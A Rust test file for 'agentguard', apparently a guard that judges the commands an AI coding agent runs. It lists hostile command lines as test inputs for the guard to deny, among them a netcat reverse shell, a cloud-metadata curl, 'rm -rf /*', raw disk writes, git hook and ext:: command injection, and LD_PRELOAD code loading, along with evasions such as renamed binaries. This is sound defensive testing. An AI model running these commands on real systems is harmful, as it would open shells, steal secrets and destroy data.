//! The shipped policies, from the words of a command to its verdict.

use std::collections::BTreeMap;
use std::path::PathBuf;

use super::{NOTHING, exec, program, session, shipped, word};
use crate::{Error, Policies, Request};
use agentguard_core::{
    Action, Digest, Judge as _, Level, Network, ProgramClass, Rule, Start, Verdict,
};

const ALLOW: &str = "allow programs/known";

fn verdicts(cases: &[(&[&str], &str)]) {
    let judge = shipped();
    for (words, expected) in cases {
        assert_eq!(word(&judge, exec(words)), *expected, "{words:?}");
    }
}

#[test]
fn what_is_denied_is_denied_however_it_is_spelt() {
    verdicts(&[
        (&["sudo", "-n", "ls"], "deny privilege/other-user"),
        (
            &["env", "A=1", "nice", "sudo", "ls"],
            "deny privilege/other-user",
        ),
        (
            &["bash", "-lc", "true && sudo ls"],
            "deny privilege/other-user",
        ),
        (&["crontab", "-"], "deny persistence/scheduler"),
        (
            &["systemctl", "--user", "enable", "x"],
            "deny persistence/services",
        ),
        (&["git", "commit", "-nm", "x"], "deny git/no-verify"),
        (
            &["git", "push", "origin", "HEAD:main"],
            "deny git/protected-branch",
        ),
        (
            &["git", "-C", "x", "push", "origin", "+topic"],
            "deny git/rewrite",
        ),
        (
            &["git", "push", "-f", "origin", "topic"],
            "deny git/rewrite",
        ),
        (
            &["git", "-c", "core.hooksPath=/tmp/h", "commit"],
            "deny git/program-by-configuration",
        ),
        (
            &["git", "-c", "CORE.FSMonitor=./x", "status"],
            "deny git/program-by-configuration",
        ),
        (
            &["git", "clone", "-c", "core.sshCommand=x", "u"],
            "deny git/program-by-configuration",
        ),
        (
            &["git", "fetch", "--upload-pack", "sh x", "o"],
            "deny git/program-by-option",
        ),
        (
            &["git", "fetch", "--upload-pa=sh x", "o"],
            "deny git/program-by-option",
        ),
        (
            &["git", "--exec-path=/work/x", "status"],
            "deny git/program-by-option",
        ),
        (
            &["git", "clone", "ext::sh -c id"],
            "deny git/program-by-address",
        ),
        (&["rm", "-fr", "../work"], "deny commands/remove-all"),
        (
            &["sh", "-c", "rm --recursive --force /*"],
            "deny commands/remove-all",
        ),
        (
            &["find", ".", "-exec", "rm", "-R", "/", ";"],
            "deny commands/remove-all",
        ),
        (&["chmod", "4755", "x"], "deny commands/set-user-id"),
        (
            &["docker", "run", "--privileged=true", "x"],
            "deny commands/host-container",
        ),
        (
            &["podman", "container", "run", "-v/:/h", "x"],
            "deny commands/host-container",
        ),
        (&["dd", "if=x", "of=/dev/sda"], "deny commands/raw-disk"),
        (
            &["nc", "-e", "/bin/sh", "1.2.3.4", "5"],
            "deny commands/connected-shell",
        ),
        (
            &["curl", "http://169.254.169.254/x"],
            "deny secrets/metadata-service",
        ),
        (&["gh", "auth", "token"], "deny secrets/printed-token"),
        (&["npm", "publish"], "ask commands/publish"),
        (
            &["node", "/usr/bin/npm", "publish", "--tag", "x"],
            "ask commands/publish",
        ),
        (&["cargo", "+nightly", "publish"], "ask commands/publish"),
        (
            &["terraform", "apply", "-auto-approve"],
            "ask commands/infrastructure",
        ),
    ]);
}

#[test]
fn ordinary_work_is_allowed() {
    verdicts(&[
        (&["ls", "-la"], ALLOW),
        (&["cargo", "test", "--", "--nocapture"], ALLOW),
        (&["npm", "ci", "--ignore-scripts"], ALLOW),
        (
            &["make", "-j4", "install", "DESTDIR=/home/ann/work/out"],
            ALLOW,
        ),
        (&["git", "commit", "-am", "push origin main --force"], ALLOW),
        (&["git", "push", "-u", "origin", "agent/x"], ALLOW),
        (
            &["git", "push", "--force-with-lease", "origin", "agent/x"],
            ALLOW,
        ),
        (
            &[
                "git",
                "-c",
                "core.hooksPath=/dev/null",
                "-c",
                "core.fsmonitor=",
                "-c",
                "safe.bareRepository=explicit",
                "-c",
                "protocol.file.allow=never",
                "ls-files",
            ],
            ALLOW,
        ),
        (
            &[
                "git",
                "-c",
                "core.alternateRefsCommand=f() { git --git-dir=\"$1\" for-each-ref --format='%(objectname)'; }; f",
                "status",
            ],
            ALLOW,
        ),
        (&["git", "rebase", "-x", "make test", "HEAD~3"], ALLOW),
    ]);
}

#[test]
fn so_is_work_that_looks_worse_than_it_is() {
    verdicts(&[
        (&["rm", "-rf", "target", "/home/ann/work/dist"], ALLOW),
        (&["bash", "-c", "for i in 1 2; do echo $i; done"], ALLOW),
        (
            &[
                "docker",
                "run",
                "--rm",
                "-v",
                "/home/ann/work:/w",
                "x",
                "rm",
                "-rf",
                "/",
            ],
            ALLOW,
        ),
        (
            &["python3", "-m", "pip", "install", "-r", "requirements.txt"],
            ALLOW,
        ),
        (&["chmod", "+x", "build.sh"], ALLOW),
        (&["terraform", "plan"], ALLOW),
        (&["curl", "-s", "http://localhost:8080/"], ALLOW),
    ]);
}

#[test]
fn where_a_program_comes_from_decides() {
    let judge = shipped();
    for (class, expected) in [
        (ProgramClass::System, ALLOW),
        (ProgramClass::Toolchain, ALLOW),
        (ProgramClass::Workspace, ALLOW),
        (ProgramClass::Temporary, "deny programs/temporary"),
        (ProgramClass::Memfd, "deny programs/memory"),
        (ProgramClass::Deleted, "deny programs/deleted"),
        (ProgramClass::Loader, "deny programs/loader"),
        (ProgramClass::Unknown, "deny programs/unknown"),
    ] {
        let mut one = exec(&["thing"]);
        one.program.class = class;
        assert_eq!(word(&judge, one), expected);
        let mut one = exec(&["sh", "./thing"]);
        one.script = Some(program("/x/thing", class));
        assert_eq!(word(&judge, one), expected);
    }
}

#[test]
fn a_renamed_program_is_known_by_its_file_its_name_and_its_content() {
    let judge = shipped();
    let mut called_otherwise = exec(&["innocent", "ls"]);
    called_otherwise.program.path = "/usr/bin/sudo".to_owned();
    assert_eq!(word(&judge, called_otherwise), "deny privilege/other-user");
    let mut linked = exec(&["crontab", "-l"]);
    linked.program.path = "/usr/bin/busybox".to_owned();
    assert_eq!(word(&judge, linked), "deny persistence/scheduler");

    let mut copied = exec(&["./tool"]);
    copied.program = program("/home/ann/work/tool", ProgramClass::Workspace);
    assert_eq!(word(&judge, copied.clone()), ALLOW);
    let rule = Rule::new("privilege/other-user", "no");
    let content = BTreeMap::from([(Digest::of(b"/home/ann/work/tool"), rule)]);
    let judge = Policies::load(&NOTHING)
        .unwrap()
        .judge(session())
        .with_denied_content(content);
    assert_eq!(word(&judge, copied), "deny privilege/other-user");
}

#[test]
fn scripts_are_judged_by_their_own_words() {
    let judge = shipped();
    let mut one = exec(&["/usr/bin/node", "/opt/x/npm", "publish"]);
    one.program.path = "/usr/bin/node".to_owned();
    one.script = Some(program("/opt/x/npm", ProgramClass::System));
    assert_eq!(word(&judge, one.clone()), "ask commands/publish");
    one.argv[2] = "test".to_owned();
    assert_eq!(word(&judge, one), ALLOW);
}

#[test]
fn variables_that_run_code_are_denied() {
    let judge = shipped();
    for (name, value, expected) in [
        (
            "LD_PRELOAD",
            "/home/ann/work/x.so",
            "deny environment/preload",
        ),
        ("LD_PRELOAD", "", ALLOW),
        ("LD_PRELOAD", "/usr/libexec/coreutils/libstdbuf.so", ALLOW),
        ("LD_AUDIT", "/usr/lib/x.so", "deny environment/audit"),
        ("LD_LIBRARY_PATH", "/home/ann/work/target/debug", ALLOW),
        (
            "NODE_OPTIONS",
            "--require /tmp/x.js",
            "deny environment/temporary-code",
        ),
        ("NODE_OPTIONS", "--max-old-space-size=4096", ALLOW),
        ("GIT_EXTERNAL_DIFF", "/x", "deny git/program-by-environment"),
        (
            "GIT_CONFIG_PARAMETERS",
            "'core.hookspath'='/x'",
            "deny git/program-by-configuration",
        ),
        ("GIT_EDITOR", "true", ALLOW),
        ("GIT_EXEC_PATH", "/usr/lib/git-core", ALLOW),
        (
            "GIT_EXEC_PATH",
            "/home/ann/work/git-core",
            "deny git/program-by-environment",
        ),
    ] {
        let mut one = exec(&["git", "status"]);
        one.environment.insert(name.to_owned(), value.to_owned());
        assert_eq!(word(&judge, one), expected, "{name}={value}");
        let assignment = format!("{name}={value}");
        let through_env = exec(&["env", &assignment, "git", "status"]);
        assert_eq!(word(&judge, through_env), expected, "env {assignment}");
    }
}

pub(crate) fn request() -> Request {
    Request {
        session: session(),
        human_home: PathBuf::from("/home/ann"),
        home: PathBuf::from("/home/ann"),
        profile: None,
        command: vec!["true".to_owned()],
        level: Level::Full,
        network: None,
        ports: Vec::new(),
        environment: Vec::new(),
        git_directories: vec![PathBuf::from(".git")],
        other_git_directories: Vec::new(),
    }
}

#[test]
fn the_confinement_is_what_the_design_promises() {
    let policies = Policies::load(&NOTHING).unwrap();
    let confined = policies.confine(&request()).unwrap();
    let confinement = &confined.confinement;
    assert_eq!(confinement.network, Network::Isolated);
    assert_eq!(confinement.workspace, PathBuf::from("/home/ann/work"));
    let paths: Vec<_> = confinement
        .grants
        .iter()
        .map(|grant| grant.path.to_str().unwrap())
        .collect();
    assert!(paths.contains(&"/usr") && paths.contains(&"/etc"));
    for outside in [
        "/",
        "/home",
        "/home/ann",
        "/root",
        "/var",
        "/run",
        "/proc",
        "/sys",
        "/tmp",
    ] {
        assert!(!paths.contains(&outside), "{outside}");
    }
    for mask in ["/etc/shadow", "/etc/sudoers.d", "/etc/ssl/private"] {
        assert!(confinement.masks.contains(&PathBuf::from(mask)), "{mask}");
    }
    for pin in [".git/hooks", ".git/config", ".github/workflows", ".claude"] {
        assert!(confinement.pins.contains(&PathBuf::from(pin)), "{pin}");
    }
    assert!(confinement.environment.contains(&"PATH".to_owned()));
    assert!(
        !confinement
            .environment
            .iter()
            .any(|name| name.contains("TOKEN"))
    );
    let ids: Vec<_> = confined
        .covered
        .iter()
        .map(|rule| rule.id.as_str())
        .collect();
    assert!(
        ids.contains(&"persistence/pinned") && ids.contains(&"secrets/accounts"),
        "{ids:?}"
    );
    assert!(
        confined
            .denied_programs
            .iter()
            .any(|denied| denied.name == "sudo")
    );
}

#[test]
fn what_is_asked_for_and_not_granted_is_refused_not_dropped() {
    let policies = Policies::load(&NOTHING).unwrap();
    for name in [
        "LD_AUDIT",
        "GITHUB_ENV",
        "ACTIONS_RUNTIME_TOKEN",
        "A=B",
        "*",
    ] {
        let mut wants = request();
        wants.environment = vec![name.to_owned()];
        let refused = policies.confine(&wants).unwrap_err();
        assert!(
            matches!(refused, Error::Refused { .. } | Error::Unconfined { .. }),
            "{name}: {refused}"
        );
    }
    let mut wants = request();
    wants.environment = vec!["MODEL_KEY".to_owned()];
    wants.ports = vec![8080];
    wants.network = Some(Network::Host);
    let confined = policies.confine(&wants).unwrap();
    assert!(
        confined
            .confinement
            .environment
            .contains(&"MODEL_KEY".to_owned())
    );
    assert_eq!(confined.confinement.ports, [8080]);
    assert_eq!(confined.confinement.network, Network::Host);
}

#[test]
fn a_session_starts_in_a_project_and_nowhere_else() {
    let policies = Policies::load(&NOTHING).unwrap();
    for (workspace, allowed) in [
        ("/home/ann/work", true),
        ("/home/ann", false),
        ("/", false),
        ("/etc", false),
    ] {
        let mut of = session();
        workspace.clone_into(&mut of.workspace);
        let mut wants = request();
        wants.session = of.clone();
        let judge = policies.judge(of.clone());
        let start = Start {
            session: of,
            confinement: policies.confine(&wants).unwrap().confinement,
            command: vec!["true".to_owned()],
            enforcement: agentguard_core::Enforcement::Policy,
            profile: None,
            switched_off: Vec::new(),
        };
        let verdict = judge
            .judge(&judge.question(Action::Session(Box::new(start))))
            .unwrap();
        assert_eq!(
            matches!(verdict, Verdict::Allow(_)),
            allowed,
            "{workspace}: {verdict:?}"
        );
    }
}
